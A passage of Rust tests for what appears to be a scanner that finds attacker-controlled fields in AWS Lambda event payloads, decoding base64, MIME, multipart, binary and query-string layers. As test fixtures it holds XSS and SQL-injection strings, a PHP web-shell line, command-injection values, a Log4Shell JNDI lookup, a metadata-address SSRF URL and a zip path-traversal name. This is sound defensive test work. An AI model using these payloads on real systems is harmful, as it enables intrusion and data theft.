                "=?utf-8?B?PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==?= <a@example.com>".to_owned(),
                vec!["json"]
            ),
            (
                "<script>alert(1)</script> <a@example.com>".to_owned(),
                vec!["base64", "json"]
            )
        ]
    );
    // Blanks between two encoded words go; Latin-1 is read as Latin-1.
    assert_eq!(
        values_at(&e, &format!("{at}.subject"))[1],
        ("café au lait".to_owned(), vec!["json", "quoted_printable"])
    );
    // A field is a string like any other: undeclared base64 is read decoded.
    assert!(has_path(&e, &format!("{at}.x-data.role")));
    let names = values_at(&e, &format!("{at}[0].filename"));
    assert_eq!(names[1].0, "résumé.txt");
}

#[test]
fn xml_attributes_and_part_names_are_read_as_strings() {
    let mut e = sample(Trigger::ApiGatewayRest);
    e["headers"]["Content-Type"] = json!("application/xml");
    e["body"] =
        json!("<a v='{\"$where\": \"1\"}' w=\"eyJyb2xlIjogImFkbWluIiwgIm5vdGUiOiAiaGkifQ==\"/>");
    assert!(has_path(&e, "$.body.a['@v']['$where']"));
    assert!(has_path(&e, "$.body.a['@w'].role"));
    e["headers"]["Content-Type"] = json!("multipart/form-data; boundary=B");
    e["body"] = json!(
        "--B\r\nContent-Disposition: form-data; name=\"f\"; \
         filename=\"eyJyb2xlIjogImFkbWluIiwgIm5vdGUiOiAiaGkifQ==\"\r\n\r\nx\r\n--B--\r\n"
    );
    assert!(has_path(&e, "$.body.f.filename.role"));
}

#[test]
fn ses_content_in_an_sns_envelope_in_sqs_is_read_as_an_email_too() {
    let sns = ses_through_sns("From: a@example.com\r\nDate: today\r\n\r\nHello");
    let envelope = sns["Records"][0]["Sns"].to_string();
    let e = json!({"Records": [sqs_record("m1", &envelope)]});
    assert_eq!(
        value_at(&e, "$.Records[0].body.Message.content.from")
            .unwrap()
            .0,
        "a@example.com"
    );
}

#[test]
fn content_not_shaped_as_an_email_stays_one_value() {
    for content in [
        "just text\r\nMIME-Version: 1.0\r\n\r\nbody",
        "Subject: one field only\r\n\r\nbody",
        "X-A: 1\r\nX-B: 2\r\n\r\nno origin field",
        "From: a@example.com\r\nDate: today",
    ] {
        let e = ses_through_sns(content);
        assert_eq!(
            value_at(&e, "$.Records[0].Sns.Message.content").unwrap().0,
            content
        );
    }
}

#[test]
fn mime_nesting_is_bounded() {
    // Ten thousand multiparts, each inside the last: read as one string past eight levels.
    let mut content = String::from("From: a@example.com\r\nDate: today\r\n");
    for i in 0..10_000 {
        let b = format!("x{i}y");
        content.push_str(&format!(
            "Content-Type: multipart/mixed; boundary={b}\r\n\r\n--{b}\r\n"
        ));
    }
    content.push_str("\r\nend\r\n");
    let e = ses_through_sns(&content);
    let parts = |p: &str| p.matches("[0]").count() - 1; // `$.Records[0]` is no part
    let deepest = fields(&e).into_iter().map(|(p, ..)| parts(&p)).max();
    assert_eq!(deepest, Some(8));
}

#[test]
fn dynamodb_attribute_values_are_unwrapped() {
    let e = sample(Trigger::DynamoDb);
    assert_eq!(
        value_at(&e, "$.Records[0].dynamodb.NewImage.address.city").unwrap(),
        ("London".to_owned(), vec!["dynamodb"])
    );
    assert_eq!(
        value_at(&e, "$.Records[0].dynamodb.NewImage.tags[1]")
            .unwrap()
            .0,
        "newsletter"
    );
    assert_eq!(
        value_at(&e, "$.Records[0].dynamodb.NewImage.avatar").unwrap(),
        ("png-bytes".to_owned(), vec!["base64", "dynamodb"])
    );
    assert_eq!(
        value_at(&e, "$.Records[0].dynamodb.Keys.pk").unwrap().0,
        "CUSTOMER#42"
    );
    assert_eq!(
        InputView::new(&e).records()[0].id.as_deref(),
        Some("111000000000000000000001")
    );
}

#[test]
fn kinesis_data_is_base64_json() {
    let e = sample(Trigger::Kinesis);
    assert_eq!(
        value_at(&e, "$.Records[0].kinesis.data.label").unwrap(),
        ("kitchen".to_owned(), vec!["base64", "json"])
    );
    assert_eq!(
        value_at(&e, "$.Records[0].kinesis.partitionKey").unwrap().0,
        "device-17"
    );
    assert!(InputView::new(&e).records()[0]
        .id
        .as_deref()
        .unwrap()
        .starts_with("4959"));
}

/// Bytes as a compressor leaves them (`decode::noise`, one seed for these tests).
fn noise(len: usize) -> Vec<u8> {
    crate::trigger::decode::noise(0x2545_f491_4f6c_dd1d, len)
}

fn binary_upload(file: &[u8]) -> Value {
    let mut body = b"--b\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nHoliday\r\n\
        --b\r\nContent-Disposition: form-data; name=\"photo\"; filename=\"a.png\"\r\n\
        Content-Type: image/png\r\n\r\n"
        .to_vec();
    body.extend_from_slice(file);
    body.extend_from_slice(b"\r\n--b--\r\n");
    base64_body("multipart/form-data; boundary=b", &body)
}

/// An HTTP API request whose body is `bytes` of `content_type`, base64 as API Gateway sends it.
fn base64_body(content_type: &str, bytes: &[u8]) -> Value {
    let mut e = sample(Trigger::ApiGatewayHttp);
    e["headers"]["content-type"] = json!(content_type);
    e["body"] = json!(base64::Engine::encode(
        &base64::engine::general_purpose::STANDARD,
        bytes
    ));
    e["isBase64Encoded"] = json!(true);
    e
}

#[test]
fn binary_uploads_are_split_and_media_read_for_code_only() {
    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    png.extend(noise(64 << 10));
    let e = binary_upload(&png);
    let f = fields(&e);
    // The text field beside the file is a field of its own.
    assert_eq!(value_at(&e, "$.body.title").unwrap().0, "Holiday");
    assert_eq!(value_at(&e, "$.body.photo.filename").unwrap().0, "a.png");
    // Of the image, no printable run: they are noise.
    let photo = |(p, r, ..): &(String, FieldRole, String, Vec<&str>)| {
        p == "$.body.photo" && *r == FieldRole::Value
    };
    assert!(!f.iter().any(photo), "{f:?}");
    // A script in its comment is read.
    png.extend_from_slice(b"tEXtComment\0<?php system($_GET['c']); ?>\xff");
    let runs: Vec<_> = fields(&binary_upload(&png))
        .into_iter()
        .filter(photo)
        .map(|(_, _, text, _)| text)
        .collect();
    assert_eq!(runs, ["<?php system($_GET['c']); ?>"]);
    // Magic bytes in a form field (no file name) change nothing: the field is text to the
    // application, and so is what follows them.
    let mut field = b"--b\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n".to_vec();
    field.extend_from_slice(b"\x89PNG\r\n\x1a\n' UNION SELECT 1--\r\n--b--\r\n");
    let e = base64_body("multipart/form-data; boundary=b", &field);
    assert_eq!(value_at(&e, "$.body.q").unwrap().0, "' UNION SELECT 1--");
    // Binary that is no known file format is still read run by run.
    let mut other = b"\xff\x01proto".to_vec();
    other.extend(b"\x00\x12a string field".repeat(200));
    let f = fields(&binary_upload(&other));
    assert!(
        f.iter()
            .any(|(p, _, text, _)| p == "$.body.photo" && text == "proto"),
        "{f:?}"
    );
}

/// What a binary HTTP body of no file type yields: its runs, as values of `$.body`.
fn octet_runs(bytes: &[u8]) -> Vec<String> {
    fields(&base64_body("application/octet-stream", bytes))
        .into_iter()
        .filter(|(p, r, ..)| p == "$.body" && *r == FieldRole::Value)
        .map(|(_, _, text, _)| text)
        .collect()
}

#[test]
fn compressed_or_encrypted_bytes_are_read_past_their_chance_runs() {
    // 64 KB of cipher text holds hundreds of printable runs of four bytes or more, none text.
    let mut blob = noise(64 << 10);
    assert!(crate::trigger::decode::printable_runs(&blob, 4).count() > 300);
    assert_eq!(octet_runs(&blob), Vec::<String>::new());
    // A string among them long enough that chance does not spell it is still read, and so
    // is a shorter one that opens code.
    let sqli = b"\x00' UNION SELECT password FROM users--\x00";
    blob[1000..1000 + sqli.len()].copy_from_slice(sqli);
    blob[5000..5008].copy_from_slice(b"\x00<?php\x00\x00");
    assert_eq!(
        octet_runs(&blob),
        ["' UNION SELECT password FROM users--", "<?php"]
    );
    // A protobuf message that a blob field pads into noise keeps its short strings whole.
    let mut msg = vec![0x0a, 0x80, 0x80, 0x04]; // bytes field 1, 64 KB
    msg.extend(noise(64 << 10));
    msg.extend_from_slice(b"\x12\x04| id");
    assert_eq!(octet_runs(&msg), ["| id"]);
    // Structured binary keeps its short strings: they are its fields.
    let mut proto = Vec::new();
    for i in 0..400u32 {
        proto.extend_from_slice(&[0x0a, 4]);
        proto.extend_from_slice(format!("k{:03}", i % 1000).as_bytes());
        proto.extend_from_slice(&[0x10, (i % 128) as u8, 0x1a, 4]);
        proto.extend_from_slice(b";id;");
    }
    assert_eq!(octet_runs(&proto).len(), 800);
}

#[test]
fn messagepack_and_cbor_are_read_as_their_strings() {
    // `{"pad": <64 KB of noise>, "note": "| id"}`, given the format's heads: a two-member map,
    // a three-byte string, 32-bit-long bytes, a four-byte string (twice).
    let padded = |heads: [u8; 5]| {
        let mut m = vec![heads[0], heads[1], b'p', b'a', b'd', heads[2]];
        m.extend((64u32 << 10).to_be_bytes());
        m.extend(noise(64 << 10));
        m.extend([heads[3], b'n', b'o', b't', b'e', heads[4]]);
        m.extend(b"| id");
        m
    };
    // The noise pads the map into noise; its short strings are still read, whole.
    assert_eq!(
        octet_runs(&padded([0x82, 0xa3, 0xc6, 0xa4, 0xa4])),
        ["pad", "note", "| id"]
    );
    assert_eq!(
        octet_runs(&padded([0xa2, 0x63, 0x5a, 0x64, 0x64])),
        ["pad", "note", "| id"]
    );
    // Numbers stay apart from the text: small integers are printable bytes, and read as runs
    // `[64, 64, 51, 51, 51, "ok"]` is `@@333`, a SQL system variable.
    let record = [0x96, 0x40, 0x40, 0x33, 0x33, 0x33, 0xa2, b'o', b'k'];
    assert_eq!(
        crate::trigger::decode::printable_runs(&record, 4).count(),
        1
    );
    assert_eq!(octet_runs(&record), ["ok"]);
}

#[test]
fn archive_entry_names_are_read() {
    let mut zip = Vec::new();
    for name in [&b"docs/readme.txt"[..], b"../../etc/cron.d/x"] {
        zip.extend_from_slice(b"PK\x03\x04");
        zip.extend_from_slice(&[0; 22]);
        zip.extend_from_slice(&u16::try_from(name.len()).unwrap().to_le_bytes());
        zip.extend_from_slice(&[0, 0]);
        zip.extend_from_slice(name);
        zip.extend(noise(256));
    }
    let names: Vec<_> = fields(&binary_upload(&zip))
        .into_iter()
        .filter(|(p, r, ..)| p == "$.body.photo" && *r == FieldRole::Value)
        .map(|(_, _, text, _)| text)
        .collect();
    assert_eq!(names, ["docs/readme.txt", "../../etc/cron.d/x"]);
}

#[test]
fn stream_and_broker_payloads_are_base64_by_contract() {
    // Three bytes of base64: too short to guess, read because the trigger declares it.
    let short = sample::b64_for_tests(";id");
    let cases = [
        (Trigger::Firehose, "records.0.data", "$.records[0].data"),
        (
            Trigger::Kafka,
            "records.orders-0.0.value",
            "$.records.orders-0[0].value",
        ),
        (
            Trigger::Kafka,
            "records.orders-0.0.key",
            "$.records.orders-0[0].key",
        ),
        (Trigger::AmazonMq, "messages.0.data", "$.messages[0].data"),
    ];
    for (trigger, at, path) in cases {
        let mut e = sample(trigger);
        set_path(&mut e, at, json!(short)).unwrap();
        assert_eq!(
            value_at(&e, path),
            Some((";id".to_owned(), vec!["base64"])),
            "{trigger}: {at}"
        );
    }
    // The samples' own payloads, decoded (JSON inside base64, gzip inside base64).
    let firehose = sample(Trigger::Firehose);
    assert_eq!(
        value_at(&firehose, "$.records[0].data.referrer").unwrap(),
        ("newsletter".to_owned(), vec!["base64", "json"])
    );
    let logs = sample(Trigger::CloudWatchLogs);
    assert_eq!(
        value_at(&logs, "$.awslogs.data.logEvents[0].message").unwrap(),
        (
            "INFO order A-1001 paid in 412 ms".to_owned(),
            vec!["base64", "json", "gzip"]
        )
    );
    // What the broker or the service sets is not input; what the producer sets is.
    let mq = sample(Trigger::AmazonMq);
    assert!(!has_path(&mq, "$.messages[0].messageID"));
    assert!(!has_path(&mq, "$.eventSourceArn"));
    assert_eq!(
        value_at(&mq, "$.messages[0].correlationID").unwrap().0,
        "inv-7781"
    );
    assert_eq!(
        value_at(&mq, "$.messages[0].properties.tenant").unwrap().0,
        "acme"
    );
    let kafka = sample(Trigger::Kafka);
    assert!(!has_path(&kafka, "$.records.orders-0[0].offset"));
    assert!(!has_path(&kafka, "$.records.orders-0[0].topic"));
}

#[test]
fn message_headers_are_bytes_of_any_length() {
    // Kafka: `[{"name": [bytes]}]`, Java's signed bytes included; RabbitMQ: `{"bytes": […]}`.
    let mut kafka = sample(Trigger::Kafka);
    kafka["records"]["orders-0"][0]["headers"] =
        json!([{"trace": [59, 105, 100]}, {"n": [-61, -87]}]);
    let h = "$.records.orders-0[0].headers";
    assert_eq!(value_at(&kafka, &format!("{h}[0].trace")).unwrap().0, ";id");
    assert_eq!(value_at(&kafka, &format!("{h}[1].n")).unwrap().0, "é");
    // The header's name is input too.
    assert!(fields(&kafka)
        .iter()
        .any(|(p, role, text, _)| *p == format!("{h}[0].trace")
            && *role == FieldRole::Key
            && text == "trace"));
    let rabbit = json!({"eventSource": "aws:rmq", "eventSourceArn": "arn:aws:mq:us-east-1:1:broker:b:x",
        "rmqMessagesByQueue": {"jobs::/": [{"basicProperties": {"contentType": "text/plain",
            "headers": {"h": {"bytes": [36, 40, 105, 100, 41]}, "short": {"bytes": [59, 105, 100]}, "n": 10},
            "appId": "<svg onload=alert(1)>", "deliveryMode": 1, "priority": 0, "bodySize": 3},
            "redelivered": false, "data": sample::b64_for_tests("|id")}]}});
    assert_eq!(Trigger::detect(&rabbit), Trigger::AmazonMq);
    assert!(check_shape(&rabbit).is_ok(), "{:?}", check_shape(&rabbit));
    let q = "$.rmqMessagesByQueue['jobs::/'][0]";
    assert_eq!(value_at(&rabbit, &format!("{q}.data")).unwrap().0, "|id");
    let props = format!("{q}.basicProperties");
    assert_eq!(
        value_at(&rabbit, &format!("{props}.headers.h")).unwrap().0,
        "$(id)"
    );
    assert_eq!(
        value_at(&rabbit, &format!("{props}.headers.short"))
            .unwrap()
            .0,
        ";id"
    );
    assert_eq!(
        value_at(&rabbit, &format!("{props}.appId")).unwrap().0,
        "<svg onload=alert(1)>"
    );
}

#[test]
fn eventbridge_detail_ses_mail_cognito_request() {
    let eb = sample(Trigger::EventBridge);
    assert_eq!(
        value_at(&eb, "$.detail.customer.email").unwrap().0,
        "grace@example.com"
    );
    assert_eq!(value_at(&eb, "$.detail-type").unwrap().0, "OrderPlaced");
    // A custom event's `source` is the putter's free text.
    assert!(value_at(&eb, "$.source").is_some());
    assert!(!has_path(&eb, "$.account"));
    let ses = sample(Trigger::Ses);
    assert_eq!(
        value_at(&ses, "$.Records[0].ses.mail.commonHeaders.subject")
            .unwrap()
            .0,
        "Question about my order"
    );
    assert_eq!(
        value_at(&ses, "$.Records[0].ses.mail.headers[0].value")
            .unwrap()
            .0,
        "Alice <alice@example.com>"
    );
    assert!(!has_path(
        &ses,
        "$.Records[0].ses.receipt.action.functionArn"
    ));
    let cognito = sample(Trigger::CognitoUserPool);
    assert_eq!(
        value_at(&cognito, "$.request.userAttributes.email")
            .unwrap()
            .0,
        "ada@example.com"
    );
    assert_eq!(value_at(&cognito, "$.userName").unwrap().0, "ada");
}

#[test]
fn unknown_and_iot_events_are_fully_untrusted() {
    let e = sample(Trigger::Unknown);
    assert_eq!(value_at(&e, "$.image").unwrap().0, "cat.png");
    let iot = sample(Trigger::Iot);
    assert_eq!(
        value_at(&iot, "$.protocolData.mqtt.clientId").unwrap().0,
        "thermo-17"
    );
}

#[test]
fn raw_query_pluses_are_read_as_spaces_too() {
    // An HTTP API leaves `+` in `queryStringParameters`; the URL's parsers make it a space.
    let mut e = sample(Trigger::ApiGatewayHttp);
    set_path(
        &mut e,
        "rawQueryString",
        json!("q=1'+UNION+SELECT+1--&page=2"),
    )
    .unwrap();
    set_path(
        &mut e,
        "queryStringParameters",
        json!({"q": "1'+UNION+SELECT+1--", "page": "2"}),
    )
    .unwrap();
    let seen = values_at(&e, "$.queryStringParameters.q");
    assert_eq!(
        seen,
        [
            ("1'+UNION+SELECT+1--".to_owned(), vec![]),
            ("1' UNION SELECT 1--".to_owned(), vec!["url"]),
        ]
    );
    // Without a `+` the raw query says nothing the map does not.
    set_path(&mut e, "rawQueryString", json!("q=a%20b")).unwrap();
    assert!(!fields(&e).iter().any(|(_, _, _, t)| t.contains(&"url")));
}

#[test]
fn a_raw_query_without_its_map_is_read_whole() {
    // A hand-built or directly invoked event: the URL the handler parses is all there is.
    let mut e = sample(Trigger::ApiGatewayHttp);
    set_path(
        &mut e,
        "rawQueryString",
        json!("q=1%27%20or%201=1--&page=2"),
    )
    .unwrap();
    set_path(&mut e, "queryStringParameters", Value::Null).unwrap();
    let query = |e: &Value| -> Vec<(String, String)> {
        fields(e)
            .into_iter()
            .filter(|(p, role, ..)| {
                p.starts_with("$.queryStringParameters.") && *role == FieldRole::Value
            })
            .map(|(p, _, text, _)| (p, text))
            .collect()
    };
    let q = |name: &str, v: &str| (format!("$.queryStringParameters.{name}"), v.to_owned());
    assert_eq!(query(&e), [q("q", "1' or 1=1--"), q("page", "2")]);
    // With its map, the raw query (no `+`, nothing cut) adds nothing.
    set_path(
        &mut e,
        "queryStringParameters",
        json!({"q": "1' or 1=1--", "page": "2"}),
    )
    .unwrap();
    assert_eq!(query(&e), [q("q", "1' or 1=1--"), q("page", "2")]);
}

#[test]
fn parameters_split_at_a_payloads_own_equals_are_read_rejoined() {
    let pairs = |e: &Value| -> Vec<(String, Vec<&'static str>)> {
        fields(e)
            .into_iter()
            .filter(|(.., t)| t.contains(&"pair"))
            .map(|(_, _, text, t)| (text, t))
            .collect()
    };
    // `?<svg onload=alert(1)>&page=2&filter[status]=open&$top=5` as each trigger hands it over.
    let mut http = sample(Trigger::ApiGatewayHttp);
    let params =
        json!({"<svg onload": "alert(1)>", "page": "2", "filter[status]": "open", "$top": "5"});
    set_path(&mut http, "queryStringParameters", params).unwrap();
    assert_eq!(
        pairs(&http),
        [("<svg onload=alert(1)>".to_owned(), vec!["pair"])]
    );
    let mut rest = sample(Trigger::ApiGatewayRest);
    let multi = json!({"x' or 1": ["1--", "2--"], "page": ["2"]});
    set_path(&mut rest, "multiValueQueryStringParameters", multi).unwrap();
    let joined: Vec<_> = pairs(&rest).into_iter().map(|(t, _)| t).collect();
    assert_eq!(joined, ["x' or 1=1--", "x' or 1=2--"]);
    let mut alb = sample(Trigger::Alb);
    let raw = json!({"%3Chtml%20ontouchstart": "alert(1)%3E", "page": "2"});
    set_path(&mut alb, "queryStringParameters", raw).unwrap();
    let expected = (
        "<html ontouchstart=alert(1)>".to_owned(),
        vec!["url", "pair"],
    );
    assert_eq!(pairs(&alb), std::slice::from_ref(&expected));
    let mut form = sample(Trigger::ApiGatewayHttp);
    set_path(
        &mut form,
        "headers.content-type",
        json!("application/x-www-form-urlencoded"),
    )
    .unwrap();
    set_path(
        &mut form,
        "body",
        json!("%3Chtml+ontouchstart=alert(1)>&name=Ada"),
    )
    .unwrap();
    assert_eq!(pairs(&form), [expected]);
    // A value its own raw `&` cut: the raw query rejoins it (the map has only the pieces).
    let mut cut = sample(Trigger::ApiGatewayHttp);
    let raw = "q=%3CIMG%20SRC=j&%23X41vascript:alert('t')%3E&page=2";
    set_path(&mut cut, "rawQueryString", json!(raw)).unwrap();
    let map = json!({"q": "<IMG SRC=j", "#X41vascript:alert('t')>": "", "page": "2"});
    set_path(&mut cut, "queryStringParameters", map).unwrap();
    let rejoined: Vec<_> = fields(&cut)
        .into_iter()
        .filter(|(p, _, _, t)| p == "$.queryStringParameters.q" && t.contains(&"pair"))
        .map(|(_, _, text, t)| (text, t))
        .collect();
    let want = "<IMG SRC=j&#X41vascript:alert('t')>".to_owned();
    assert_eq!(rejoined, [(want, vec!["url", "pair"])]);
    // A bare query: base64 split at its padding, or no `=` at all.
    let bare = json!({"PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg": "=", "page": "", "flag": "="});
    set_path(&mut http, "queryStringParameters", bare).unwrap();
    let joined: Vec<_> = pairs(&http).into_iter().map(|(t, _)| t).collect();
    assert_eq!(
        joined,
        [
            "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "<script>alert(1)</script>"
        ]
    );
}

#[test]
fn untyped_bodies_shaped_as_forms_are_read_as_forms_too() {
    // `requests.post(url, data="param=…")` sends no content type; `parse_qs(event["body"])`
    // reads it anyway.
    let mut e = sample(Trigger::ApiGatewayHttp);
    if let Some(h) = e["headers"].as_object_mut() {
        h.remove("content-type");
    }
    set_path(
        &mut e,
        "body",
        json!("param=PCEtLSNleGVjIGNtZD0ibHMiIC0tPg==&x=1"),
    )
    .unwrap();
    let seen = value_at(&e, "$.body.param");
    assert_eq!(
        seen,
        Some(("PCEtLSNleGVjIGNtZD0ibHMiIC0tPg==".to_owned(), vec!["url"]))
    );
    assert!(fields(&e).iter().any(|(p, _, text, t)| p == "$.body.param"
        && text == "<!--#exec cmd=\"ls\" -->"
        && t.contains(&"base64")));
    // Whole too, as before.
    assert!(value_at(&e, "$.body").is_some());
    // Prose (blanks) and typed bodies keep their layout.
    set_path(&mut e, "body", json!("total=5 items, thanks")).unwrap();
    assert!(!has_path(&e, "$.body.total"));
    set_path(
        &mut e,
        "headers.content-type",
        json!("application/octet-stream"),
    )
    .unwrap();
    set_path(&mut e, "body", json!("a=1&b=2")).unwrap();
    assert!(!has_path(&e, "$.body.a"));
    set_path(
        &mut e,
        "headers.content-type",
        json!("text/plain; charset=utf-8"),
    )
    .unwrap();
    assert!(has_path(&e, "$.body.a"));
}

#[test]
fn claims_api_gateway_verified_are_input() {
    let mut e = sample(Trigger::ApiGatewayHttp);
    set_path(
        &mut e,
        "requestContext.authorizer.jwt.claims.name",
        json!("x' OR 1=1--"),
    )
    .unwrap();
    set_path(
        &mut e,
        "requestContext.authorizer.jwt.scopes",
        json!(["orders:read"]),
    )
    .unwrap();
    assert_eq!(
        value_at(&e, "$.requestContext.authorizer.jwt.claims.name")
            .unwrap()
            .0,
        "x' OR 1=1--"
    );
    assert!(!has_path(&e, "$.requestContext.authorizer.jwt.scopes[0]"));
    let mut rest = sample(Trigger::ApiGatewayRest);
    set_path(
        &mut rest,
        "requestContext.authorizer.claims.email",
        json!("a@b.c"),
    )
    .unwrap();
    assert_eq!(
        value_at(&rest, "$.requestContext.authorizer.claims.email")
            .unwrap()
            .0,
        "a@b.c"
    );
}

#[test]
fn caller_values_aws_copies_into_context_and_attributes_are_input() {
    let payload = json!("${jndi:ldap://x/a}");
    for (trigger, set, at) in [
        (
            Trigger::ApiGatewayRest,
            "requestContext.identity.userAgent",
            "$.requestContext.identity.userAgent",
        ),
        (
            Trigger::ApiGatewayHttp,
            "requestContext.http.userAgent",
            "$.requestContext.http.userAgent",
        ),
        (
            Trigger::ApiGatewayHttp,
            "requestContext.authorizer.lambda.tenant",
            "$.requestContext.authorizer.lambda.tenant",
        ),
        (
            Trigger::ApiGatewayRest,
            "requestContext.authorizer.tenant",
            "$.requestContext.authorizer.tenant",
        ),
        (
            Trigger::Sqs,
            "Records.0.attributes.MessageGroupId",
            "$.Records[0].attributes.MessageGroupId",
        ),
        (
            Trigger::Ses,
            "Records.0.ses.receipt.recipients",
            "$.Records[0].ses.receipt.recipients",
        ),
        (
            Trigger::CognitoUserPool,
            "callerContext.awsSdkVersion",
            "$.callerContext.awsSdkVersion",
        ),
    ] {
        let mut e = sample(trigger);
        set_path(&mut e, set, payload.clone()).unwrap();
        assert_eq!(Trigger::detect(&e), trigger, "{set} changed the trigger");
        assert!(value_at(&e, at).is_some(), "{trigger:?}: {at} not walked");
    }
    // A copy of the `User-Agent` header is read once, as the header; a context that differs
    // from the header (a hand-built event) is read.
    for (trigger, header, copy) in [
        (
            Trigger::ApiGatewayHttp,
            "user-agent",
            "requestContext.http.userAgent",
        ),
        (
            Trigger::ApiGatewayRest,
            "User-Agent",
            "requestContext.identity.userAgent",
        ),
    ] {
        let mut e = sample(trigger);
        set_path(&mut e, &format!("headers.{header}"), payload.clone()).unwrap();
        set_path(&mut e, copy, payload.clone()).unwrap();
        let at = format!("$.headers.{header}");
        assert!(value_at(&e, &at).is_some(), "{trigger:?}");
        assert!(
            !has_path(&e, &format!("$.{copy}")),
            "{trigger:?}: {copy} read twice"
        );
        set_path(&mut e, copy, json!("${jndi:ldap://y/b}")).unwrap();
        assert!(
            value_at(&e, &format!("$.{copy}")).is_some(),
            "{trigger:?}: {copy} not walked"
        );
    }
    // What AWS verified about an IAM signer is not the caller's to choose.
    let mut e = sample(Trigger::ApiGatewayHttp);
    set_path(&mut e, "requestContext.authorizer.iam.userId", payload).unwrap();
    assert!(!has_path(&e, "$.requestContext.authorizer.iam.userId"));
}

#[test]
fn members_aws_does_not_document_are_input() {
    // What AWS sets is skipped; a member the walk does not know is walked, at the top of the
    // event, in a batch record and in the objects a record nests, whatever the trigger.
    for (trigger, set, extra) in [
        (
            Trigger::ApiGatewayHttp,
            "$.requestContext.accountId",
            "$.callback",
        ),
        (Trigger::ApiGatewayRest, "$.httpMethod", "$.callback"),
        (Trigger::EventBridge, "$.account", "$.callback"),
        (Trigger::CognitoUserPool, "$.triggerSource", "$.callback"),
        (
            Trigger::Sqs,
            "$.Records[0].receiptHandle",
            "$.Records[0].callback",
        ),
        (
            Trigger::S3,
            "$.Records[0].eventName",
            "$.Records[0].callback",
        ),
        (
            Trigger::DynamoDb,
            "$.Records[0].eventID",
            "$.Records[0].callback",
        ),
        // And in the objects nested in a record.
        (
            Trigger::S3,
            "$.Records[0].s3.bucket",
            "$.Records[0].s3.object.callback",
        ),
        (
            Trigger::S3,
            "$.Records[0].s3.object.eTag",
            "$.Records[0].s3.callback",
        ),
        (
            Trigger::Sns,
            "$.Records[0].Sns.TopicArn",
            "$.Records[0].Sns.callback",
        ),
        (
            Trigger::DynamoDb,
            "$.Records[0].dynamodb.SequenceNumber",
            "$.Records[0].dynamodb.callback",
        ),
        (
            Trigger::Kinesis,
            "$.Records[0].kinesis.sequenceNumber",
            "$.Records[0].kinesis.callback",
        ),
        (
            Trigger::Ses,
            "$.Records[0].ses.mail.messageId",
            "$.Records[0].ses.mail.callback",
        ),
        (
            Trigger::Ses,
            "$.Records[0].ses.receipt.spamVerdict",
            "$.Records[0].ses.receipt.callback",
        ),
        (Trigger::Firehose, "$.invocationId", "$.callback"),
        (
            Trigger::Firehose,
            "$.records[0].recordId",
            "$.records[0].callback",
        ),
        (Trigger::Kafka, "$.bootstrapServers", "$.callback"),
        (
            Trigger::VpcLattice,
            "$.requestContext.targetGroupArn",
            "$.callback",
        ),
        (
            Trigger::ApiGatewayAuthorizer,
            "$.requestContext.accountId",
            "$.callback",
        ),
        (
            Trigger::AmazonMq,
            "$.messages[0].brokerInTime",
            "$.messages[0].callback",
        ),
        (
            Trigger::Kafka,
            "$.records.orders-0[0].topic",
            "$.records.orders-0[0].callback",
        ),
    ] {
        let mut e = sample(trigger);
        let dotted = extra.replace("[0]", ".0");
        set_path(&mut e, &dotted, json!({"url": "http://169.254.169.254/"})).unwrap();
        assert_eq!(Trigger::detect(&e), trigger, "{extra} changed the trigger");
        let url = format!("{extra}.url");
        assert_eq!(
            value_at(&e, &url).map(|v| v.0).as_deref(),
            Some("http://169.254.169.254/"),
            "{trigger:?}: {url} not walked"
        );
        assert!(
            has_path(&e, extra),
            "{trigger:?}: the key of {extra} not walked"
        );
        assert!(
            !fields(&e).iter().any(|(p, ..)| p.starts_with(set)),
            "{trigger:?}: {set} walked"
        );
    }
}

#[test]
fn odd_keys_are_quoted_in_paths() {
    let e = json!({"a b": "x", "it's": "y", "line\nbreak": "z"});
    let paths: Vec<_> = fields(&e).into_iter().map(|f| f.0).collect();
    assert!(paths.contains(&"$['a b']".to_owned()));
    assert!(paths.contains(&"$['it\\'s']".to_owned()));
    assert!(paths.iter().any(|p| p.starts_with("$['line\\u{a}break']")));
}

#[test]
fn wrong_shapes_inside_known_triggers_do_not_panic() {
    let odd = [
        json!({"Records": [{"eventSource": "aws:sqs", "body": 5, "messageAttributes": "x"}]}),
        json!({"Records": [{"eventSource": "aws:dynamodb", "dynamodb": {"NewImage": {"a": {"S": 1}, "b": "plain", "c": {}}}}]}),
        json!({"Records": [{"eventSource": "aws:kinesis", "kinesis": {"data": "%%%"}}]}),
        json!({"Records": [{"eventSource": "aws:s3", "s3": {"object": {"key": 7}}}]}),
        json!({"Records": "nope"}),
        json!({"eventSource": "aws:kafka", "records": {"t-0": "x", "t-1": [5, {"headers": "h", "value": 7}]}}),
        json!({"eventSource": "aws:rmq", "rmqMessagesByQueue": {"q": [{"basicProperties": {"headers": [1]}}]}}),
        json!({"deliveryStreamArn": "a", "records": [null, {"data": "%%%"}]}),
        json!({"awslogs": {"data": "H4sI"}}),
        json!({"version": "2.0", "requestContext": {}, "body": {"not": "a string"}, "isBase64Encoded": true}),
        json!({"httpMethod": "GET", "requestContext": {}, "headers": null, "multiValueHeaders": {"a": "b"}}),
    ];
    for e in odd {
        let _ = fields(&e);
        let _ = InputView::new(&e).http().cloned();
    }
}

#[test]
fn set_path_edits_samples() {
    let mut e = sample(Trigger::Sqs);
    set_path(&mut e, "Records.0.body", json!("x")).unwrap();
    assert_eq!(e["Records"][0]["body"], "x");
    set_path(&mut e, "headers.authorization", json!("Bearer t")).unwrap();
    assert_eq!(e["headers"]["authorization"], "Bearer t");
    assert!(set_path(&mut e, "Records.9.body", json!(1)).is_err());
}

#[test]
fn shapes_are_checked_against_aws_types() {
    for trigger in Trigger::ALL {
        assert!(check_shape(&sample(trigger)).is_ok(), "{trigger}");
    }
    let mut e = sample(Trigger::Sqs);
    e["Records"][0]["messageAttributes"] = json!("not a map");
    assert!(check_shape(&e).is_err());
    let mut e = sample(Trigger::ApiGatewayHttp);
    e["isBase64Encoded"] = json!("yes");
    assert!(check_shape(&e).is_err());
}
